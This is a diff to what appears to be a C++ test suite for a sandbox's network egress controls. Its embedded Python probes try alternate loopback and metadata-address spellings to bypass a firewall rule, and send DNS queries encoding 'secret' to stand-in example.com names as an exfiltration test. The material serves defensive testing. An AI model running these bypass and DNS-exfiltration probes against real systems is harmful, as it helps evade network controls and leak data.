@@ -1,6 +1,6 @@
 // SPDX-License-Identifier: Apache-2.0
-// F and G: out over the network, past a rule. One port of the host's loopback is let out, another one is
-// not; what reaches that one is counted by who listens there.
+// F and G: out over the network, past a rule. One port of the host's loopback is let out, another
+// one is not; what reaches that one is counted by who listens there.
 #include <netinet/in.h>
 #include <sys/socket.h>
 #include <unistd.h>
@@ -106,8 +106,9 @@ void SocketRace(Escape& escape) {
 
 // ---- Addresses and names.
 
-Words Python(const std::string& script, Words arguments) {
-  Words words = {"python3", "-c", "import os, socket, struct, sys, time\n" + script};
+// It cannot tell whether it won (attack.h: kHeld): who listens outside does.
+Words Python(const std::string& script, const Words& arguments) {
+  Words words = {"python3", "-c", "import os, socket, struct, sys\n" + script + "sys.exit(11)\n"};
   words.insert(words.end(), arguments.begin(), arguments.end());
   return words;
 }
@@ -117,7 +118,8 @@ void Spellings(Escape& escape) {
   const Server evil(nullptr);
   int seen = 0;
   constexpr char kScript[] =
-      "for where in ['127.0.0.1', '2130706433', '0x7f.1', '0177.1', '127.1', '0.0.0.0', '::1', '::',"
+      "for where in ['127.0.0.1', '2130706433', '0x7f.1', '0177.1', '127.1', '0.0.0.0', '::1', "
+      "'::',"
       " '::ffff:127.0.0.1', '64:ff9b::7f00:1', '2002:7f00:1::', 'localhost', 'localhost.',"
       " '127.0.0.2', '169.254.169.254', 'host', '198.18.0.1', '198.18.0.0', '198.18.1.0']:\n"
       "  try: socket.create_connection((where, int(sys.argv[1])), 2).close()\n"
@@ -139,7 +141,8 @@ void Spellings(Escape& escape) {
 constexpr char kQuestion[] =
     "def question(name, kind):\n"
     "  labels = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.'))\n"
-    "  return struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + labels + b'\\0' + struct.pack('>2H', kind, "
+    "  return struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + labels + b'\\0' + struct.pack('>2H', "
+    "kind, "
     "1)\n"
     "def ask(where, port, name, kind):\n"
     "  try:\n"
@@ -161,12 +164,13 @@ std::string WithResolver(Escape& escape, const DatagramServer& resolver) {
 
 void AskOutside(Escape& escape, const std::string& script) {
   const DatagramServer resolver;
+  int came = 0;
   escape.Try({.argv = Python(kQuestion + script, {resolver.port_text()}),
               .profile = WithResolver(escape, resolver),
-              .prepare = [&] { (void)resolver.Take(); },
+              .prepare = [&] { came = 0; },
               .damage =
                   [&] {
-                    const int came = resolver.Take();
+                    came += resolver.Take();
                     return came == 0 ? "" : std::to_string(came) + " questions";
                   }});
 }
@@ -177,16 +181,17 @@ void DirectDns(Escape& escape) {
 }
 // The cell's own resolver is the one of resolv.conf; without a cell that is the test's.
 void Labels(Escape& escape) {
-  AskOutside(escape,
-             "mine = 'CELLRUN' in os.environ\n"
-             "conf = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')]\n"
-             "where, port = (conf[0], 53) if mine else ('127.0.0.1', port)\n"
-             "for kind in [1, 28, 16, 10, 15, 255, 5, 12, 33, 65]:\n"
-             "  ask(where, port, 'c2VjcmV0%d.git.example.com' % kind, kind)\n"
-             "  ask(where, port, 'c2VjcmV0%d.com' % kind, kind)\n"
-             "for name in ['c2VjcmV0.git.example.com', 'git.example.com.c2VjcmV0.com']:\n"
-             "  try: mine and socket.getaddrinfo(name, 443)\n"
-             "  except OSError: pass\n");
+  AskOutside(
+      escape,
+      "mine = 'CELLRUN' in os.environ\n"
+      "conf = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')]\n"
+      "where, port = (conf[0], 53) if mine else ('127.0.0.1', port)\n"
+      "for kind in [1, 28, 16, 10, 15, 255, 5, 12, 33, 65]:\n"
+      "  ask(where, port, 'c2VjcmV0%d.git.example.com' % kind, kind)\n"
+      "  ask(where, port, 'c2VjcmV0%d.com' % kind, kind)\n"
+      "for name in ['c2VjcmV0.git.example.com', 'git.example.com.c2VjcmV0.com']:\n"
+      "  try: mine and socket.getaddrinfo(name, 443)\n"
+      "  except OSError: pass\n");
 }
 
 // A server of the cell that nobody publishes waits for whoever comes from outside.
